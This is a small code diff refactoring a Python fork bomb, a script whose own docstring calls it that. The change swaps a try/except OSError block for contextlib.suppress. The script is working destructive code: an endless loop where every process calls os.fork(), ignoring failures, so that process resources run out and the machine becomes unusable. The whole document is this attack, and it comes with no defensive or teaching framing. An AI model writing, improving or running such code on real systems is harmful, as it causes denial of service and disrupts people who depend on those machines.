@@ -1,8 +1,7 @@
 """Fork bomb: every process forks forever and shrugs off the refusals."""
+import contextlib
 import os
 
 while True:
-    try:
+    with contextlib.suppress(OSError):
         os.fork()
-    except OSError:
-        pass
